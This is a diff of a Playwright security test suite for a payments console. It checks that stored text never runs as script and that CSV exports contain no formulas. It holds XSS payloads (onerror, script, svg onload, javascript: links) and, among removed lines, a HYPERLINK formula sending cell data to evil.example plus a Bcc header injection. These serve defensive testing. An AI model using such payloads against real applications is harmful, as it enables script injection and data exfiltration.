@@ -1,85 +1,55 @@
 // Scripts in every field that somebody can fill: kept as they are, shown as text on every page, and run on none.
 import { type BrowserContext, expect, type Page, test } from "@playwright/test";
-import { signIn } from "./support/console";
-import { addressOf, type Furnished, furnish, pagesOf, type Section, userOf, visit } from "./support/console-pages";
+import { startReceiver } from "../server/test/receiver";
+import { signIn, USERS } from "./support/console";
+import {
+  addressOf,
+  exportsOf,
+  type Furnished,
+  fileOf,
+  furnish,
+  OLARIA,
+  pagesOf,
+  RIBEIRA,
+  type Section,
+  userOf,
+  visit,
+} from "./support/console-pages";
+import { cellsOf, formulasIn, MARKUP, plant, plantedOn, SHOWN, watchScripts } from "./support/planted";
 import { ownProduct, type Product } from "./support/product";
 import { accessToken } from "./support/rest";
 
-/** Breaks out of text, of attributes, of scripts and of comments, loads, runs, and says that it was taken as markup. */
-const MARKUP = [
-  `"'><img src=x onerror=ran(1) data-planted>`,
-  `<script data-planted>ran(2)</script>`,
-  `</script></style></textarea></title><svg data-planted onload=ran(3)>`,
-  `--><iframe data-planted srcdoc="<script>parent.ran(4)</script>"></iframe>`,
-  `<a data-planted href="javascript:ran(5)" autofocus onfocus=ran(6)>x</a>`,
-  `\${ran(7)}{{ran(8)}}<!--`,
-].join("");
-/** Begins as a formula does, turns the writing round, and breaks lines as headers of a mail are broken. */
-const SCRIPT = `=HYPERLINK("http://evil.example?x="&A1)\u202E${MARKUP}\r\nBcc: stolen@evil.example\r\n\r\n@SUM(1)`;
-/** What can be an address of a page only by mistake. */
-const ADDRESS = `javascript:ran(9)//${MARKUP}`;
-/** A browser says no line breaks of itself. */
+/** A browser says no line breaks of itself, nor does a receiver in a header. */
 const USER_AGENT = `Mozilla/5.0 ${MARKUP}`;
-
-/**
- * What people, shops, banks and receivers have written, whichever way it came: the rules of each way in are tested
- * beside them, and what got past one in an earlier version is kept all the same.
- */
-const TEXTS: Record<string, string[]> = {
-  account_consents: ["reason"],
-  account_readings: ["problem"],
-  api_calls: ["path", "request", "answer", "user_agent", "idempotency_key"],
-  attempt_payers: ["account_masked"],
-  attempt_transitions: ["raw_status"],
-  bank_calls: ["code"],
-  banks: ["name", "display_name"],
-  credentials: ["name"],
-  mails: ["subject", "text", "error"],
-  managed_accounts: ["bank_name", "holder_name"],
-  merchants: ["brand_name", "suspended_reason"],
-  partners: ["name"],
-  payment_attempts: ["bank_payment_id", "psu_message", "raw_status", "reason"],
-  payment_link_mails: ["recipient_masked"],
-  payment_links: ["payment_reference", "order_id"],
-  payment_requests: ["payment_reference", "order_id", "status_reason", "bank_name"],
-  passkeys: ["name"],
-  statement_entries: ["remittance", "counterparty", "note", "return_reason", "end_to_end_id"],
-  users: ["name"],
-  user_sessions: ["user_agent"],
-  webhook_deliveries: ["reason"],
-  webhook_delivery_attempts: ["response_body", "error", "detail", "remote_address"],
-};
-const ADDRESSES: Record<string, string[]> = {
-  payment_links: ["success_url", "failure_url"],
-  payment_requests: ["success_url", "failure_url"],
-  payment_attempts: ["sca_redirect_url"],
-  webhook_delivery_attempts: ["url"],
-};
-const OBJECTS: Record<string, string[]> = {
-  audit_entries: ["detail", "before", "after"],
-  payment_links: ["metadata"],
-  payment_requests: ["customer", "billing_address", "metadata"],
-  webhook_delivery_attempts: ["response_headers", "request_headers"],
-};
+/** Enough of an exam for its page to show what the receiver answered. */
+const SENDINGS = 3;
 
 const FURNISHED_WITHIN_MS = 180_000;
 test.describe.configure({ mode: "serial", timeout: 240_000 });
+let receiver: Awaited<ReturnType<typeof startReceiver>>;
 let product: Product;
 let made: Furnished;
 test.beforeAll(async ({ browser }) => {
   test.setTimeout(FURNISHED_WITHIN_MS);
-  product = await ownProduct();
+  receiver = await startReceiver((response) => response.writeHead(200, { "x-planted": MARKUP }).end(MARKUP));
+  product = await ownProduct({ WEBHOOK_ALLOW_CIDRS: `127.0.0.1/32:${new URL(receiver.url).port}` });
   await product.start();
   const [owner, shopper] = [await browser.newContext({ userAgent: USER_AGENT }), await browser.newContext()];
   const [page, shop] = [await owner.newPage(), await shopper.newPage()];
   const { base, query } = product;
   await signIn(page, base);
-  made = await furnish({ page, shopper: shop, base, query, mark: "scripts", invitedName: MARKUP.slice(0, 60) });
+  const told = { receiver: receiver.url, invitedName: MARKUP.slice(0, 60) };
+  made = await furnish({ page, shopper: shop, base, query, mark: "scripts", ...told });
   await order(page);
-  await plant();
+  const sendings = "SELECT position FROM webhook_exam_sendings";
+  await expect.poll(async () => (await query(sendings)).length).toBeGreaterThanOrEqual(SENDINGS);
+  await plant(query);
   await Promise.all([owner.close(), shopper.close()]);
 });
-test.afterAll(() => product.remove());
+test.afterAll(async () => {
+  receiver.close();
+  await product.remove();
+});
 
 /** By the API, as an integrator sends what shoppers typed. */
 async function order({ request }: Page): Promise<void> {
@@ -94,70 +64,118 @@ async function order({ request }: Page): Promise<void> {
   expect([answer.status(), await answer.text()]).toEqual([201, expect.any(String)]);
 }
 
-/** Past every rule, and without what the database does by itself. */
-async function plant(): Promise<void> {
-  const literal = (text: string) => `convert_from(decode('${Buffer.from(text).toString("hex")}', 'hex'), 'UTF8')`;
-  const object = `jsonb_build_object('id', ${literal(SCRIPT)}, 'name', ${literal(SCRIPT)}, ${literal(MARKUP)}, ${literal(SCRIPT)})`;
-  const updates = ([fields, value]: readonly [Record<string, string[]>, string]) =>
-    Object.entries(fields).map(
-      ([table, columns]) => `UPDATE ${table} SET ${columns.map((column) => `${column} = ${value}`).join(", ")};`,
-    );
-  const all = [[TEXTS, literal(SCRIPT)] as const, [ADDRESSES, literal(ADDRESS)] as const, [OBJECTS, object] as const];
-  await product.query(`BEGIN; SET LOCAL session_replication_role = replica; ${all.flatMap(updates).join(" ")} COMMIT;`);
-}
-
-/** What ran, was about to run, or was taken as markup, on whatever page. */
-async function watchScripts(context: BrowserContext): Promise<string[]> {
-  const found: string[] = [];
-  await context.exposeBinding("ran", ({ page }, which: number) => found.push(`ran ${which} on ${page.url()}`));
-  await context.exposeBinding("refused", ({ page }, what: string) => found.push(`refused ${what} on ${page.url()}`));
-  await context.addInitScript(() => {
-    document.addEventListener("securitypolicyviolation", ({ violatedDirective, sample, blockedURI }) =>
-      (window as unknown as { refused: (what: string) => void }).refused(
-        `${violatedDirective} ${blockedURI} ${sample}`.trim(),
-      ),
-    );
-  });
-  context.on("dialog", (dialog) => {
-    found.push(`dialog ${dialog.message()}`);
-    void dialog.dismiss();
-  });
-  return found;
-}
-
-/** Runs in every frame: elements that somebody else's text has become, and addresses that would run. */
-function plantedIn(): string[] {
-  const runs = /^\s*javascript:/i;
-  const attributes = ["href", "src", "action", "formaction", "srcdoc"];
-  const all = [...document.querySelectorAll("*")];
-  return all.flatMap((element) => [
-    ...(element.hasAttribute("data-planted") ? [`markup <${element.localName}>`] : []),
-    ...attributes.flatMap((name) => (runs.test(element.getAttribute(name) ?? "") ? [`${name} runs`] : [])),
-  ]);
-}
-
-async function planted(page: Page): Promise<string[]> {
-  const ofFrames = await Promise.all(page.frames().map((frame) => frame.evaluate(plantedIn).catch(() => [])));
-  return ofFrames.flat().map((what) => `${what} on ${page.url()}`);
+/** Signs in, plants anew what that has written, and watches. */
+async function lookAs(page: Page, context: BrowserContext, email: string): Promise<string[]> {
+  await signIn(page, product.base, email);
+  await plant(product.query);
+  return watchScripts(context);
 }
 
 const SECTIONS: Section[][] = [["console", "account", "invitation", "outbox"], ["acting"], ["operator"]];
 for (const sections of SECTIONS) {
   test(`nothing that is kept runs on a page of ${sections.join(", ")}`, async ({ page, context }) => {
-    await signIn(page, product.base, userOf(sections[0] ?? "console"));
-    await plant();
-    const found = await watchScripts(context);
+    const found = await lookAs(page, context, userOf(sections[0] ?? "console"));
     let shown = 0;
     for (const pattern of sections.flatMap(pagesOf)) {
       await visit(page, product.base + addressOf(pattern, made));
-      found.push(...(await planted(page)));
-      if ((await page.locator("body").innerText()).includes("onerror=ran(1)")) shown += 1;
+      found.push(...(await plantedOn(page)));
+      if ((await page.locator("body").innerText()).includes(SHOWN)) shown += 1;
     }
     expect(found).toEqual([]);
     // It is there, as text: the pages were not empty.
     expect(shown).toBeGreaterThanOrEqual(sections.length);
   });
 }
+
+test("nothing that is kept or typed runs in a page that is drawn of a shopper's, or on paper", async ({
+  page,
+  context,
+}) => {
+  const found = await lookAs(page, context, USERS.owner);
+  const whose = `merchant=${OLARIA}`;
+  const typed = encodeURIComponent(MARKUP);
+  const looks = ["choosing", "at_bank", "paid", "refused"].map((state) => `state=${state}&view=hosted`);
+  const drawn = [
+    `/console/payments/${made.payment}/shopper?${whose}`,
+    ...["view=frame", ...looks].map((look) => `/console/checkout/preview?${whose}&${look}`),
+    `/console/checkout/preview?${whose}&name=${typed}&accent=${typed}&logo=${typed}&locale=${typed}&theme=${typed}`,
+    `/console/payment-links/preview?${whose}&amount=12.30&currency=EUR&reference=${typed}&locale=${typed}`,
+    `/console/payment-links/preview?${whose}&amount=12.30&currency=EUR&reference=${typed}&view=mail`,
+    `/console/payment-links/${made.link}/sheet?${whose}`,
+  ];
+  for (const address of drawn) {
+    const answer = await page.goto(product.base + address);
+    expect([address, answer?.status()]).toEqual([address, 200]);
+    found.push(...(await plantedOn(page)));
+    // Each names the merchant, whose name is the corpus.
+    expect([address, (await page.locator("body").textContent())?.includes(SHOWN)]).toEqual([address, true]);
+  }
+  const code = await page.goto(`${product.base}/console/payment-links/${made.link}/qr.svg?${whose}`);
+  expect([code?.status(), await page.locator("script, foreignObject, a, image").count()]).toEqual([200, 0]);
+  expect(found).toEqual([]);
+});
+
+test("nothing that is kept runs in what opens on a page", async ({ page, context }) => {
+  const found = await lookAs(page, context, USERS.owner);
+  const [call] = await product.query<{ id: string }>("SELECT id FROM api_calls ORDER BY id DESC LIMIT 1");
+  const rows = page.locator("main tbody button, main tbody a").filter({ visible: true });
+  const opened: [string, () => Promise<void>][] = [
+    [`/console/api-log?call=${call?.id}`, async () => {}],
+    ["/console/audit", () => rows.first().click()],
+    ["/console/payment-links", () => rows.first().click()],
+    ["/console/events", () => page.getByText("Payload").first().click()],
+    [`/console/payments/${made.payment}`, () => page.getByRole("button", { name: "Shopper’s page" }).click()],
+  ];
+  for (const [address, open] of opened) {
+    await visit(page, product.base + address);
+    await open();
+    await expect(page.locator('[aria-busy="true"]')).toHaveCount(0);
+    await expect.poll(async () => (await page.locator("body").innerText()).includes(SHOWN)).toBe(true);
+    found.push(...(await plantedOn(page)));
+  }
+  expect(found).toEqual([]);
+});
+
+test("a connection's text stands in the operator's form as text, its faults too", async ({ page, context }) => {
+  const found = await lookAs(page, context, USERS.operator);
+  await visit(page, `${product.base}/operator/banks/${made.connection}`);
+  await page.getByRole("button", { name: "Change", exact: true }).click();
+  const form = page.getByRole("dialog", { name: "Change the connection" });
+  await expect(form.getByRole("textbox")).toHaveValue(new RegExp(SHOWN.replace(/[()]/g, "\\$&")));
+  await form.getByRole("button", { name: "Check it" }).click();
+  await expect(form.getByRole("list")).toContainText(SHOWN);
+  found.push(...(await plantedOn(page)));
+  expect(found).toEqual([]);
+});
+
+/** What a spreadsheet takes for the beginning of a formula, by itself or behind white space. */
+const LEADS = ["=", "+", "-", "@", "\t=", "\r=", " +"];
+test("no cell of a list that is taken as a file begins a formula, and no browser opens the file", async ({ page }) => {
+  for (const section of ["console", "acting", "operator"] as const) {
+    const lists = exportsOf(section);
+    if (lists.length === 0) continue;
+    await page.context().clearCookies();
+    await signIn(page, product.base, userOf(section));
+    for (const lead of LEADS) {
+      await plant(product.query, lead);
+      for (const list of lists) {
+        const answer = await page.request.get(
+          `${product.base}${fileOf(list, made)}?merchant=${OLARIA}&partner=${RIBEIRA}&mode=test`,
+        );
+        const told = answer.headers();
+        expect([list, answer.status()]).toEqual([list, 200]);
+        expect([list, told["content-disposition"], told["x-content-type-options"]]).toEqual([
+          ...[list, expect.stringMatching(/^attachment;/), "nosniff"],
+        ]);
+        const text = await answer.text();
+        // A partner's chain, and the platform's, may hold nothing that others wrote.
+        if (section === "console") expect([list, text.includes(SHOWN)]).toEqual([list, true]);
+        if (list.endsWith(".csv")) expect([list, lead, formulasIn(text)]).toEqual([list, lead, []]);
+        else for (const line of text.split("\n").filter(Boolean)) expect(JSON.parse(line)).toEqual(expect.any(Object));
+      }
+    }
+  }
+});
 
 test("twin: a page that forgot to escape is caught, with a content policy and without", async ({ page, context }) => {
   const found = await watchScripts(context);
@@ -167,9 +185,17 @@ test("twin: a page that forgot to escape is caught, with a content policy and wi
     await page.route(`${address}**`, (route) => route.fulfill({ contentType: "text/html", headers, body: MARKUP }));
     await page.goto(address);
     await expect.poll(() => found.length).toBeGreaterThan(0);
-    caught.push([...found.splice(0), ...(await planted(page))]);
+    caught.push([...found.splice(0), ...(await plantedOn(page))]);
     await page.unroute(`${address}**`);
   }
   expect(caught[0]?.join()).toMatch(/^refused script-src.*markup <img>/s);
   expect(caught[1]?.join()).toMatch(/ran [1-6] on .*markup <img>/s);
+});
+
+test("twin: a file that forgot to make text of formulas is caught", () => {
+  const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
+  const forgetful = LEADS.map((lead) => `${lead}SUM(A1) "x", y`);
+  const file = `\uFEFFReference,Amount\r\n${forgetful.map((cell) => `${quoted(cell)},-12.30\r\n`).join("")}`;
+  expect(cellsOf(file).filter((cell) => cell === "-12.30")).toHaveLength(LEADS.length);
+  expect(formulasIn(file)).toEqual(forgetful);
 });
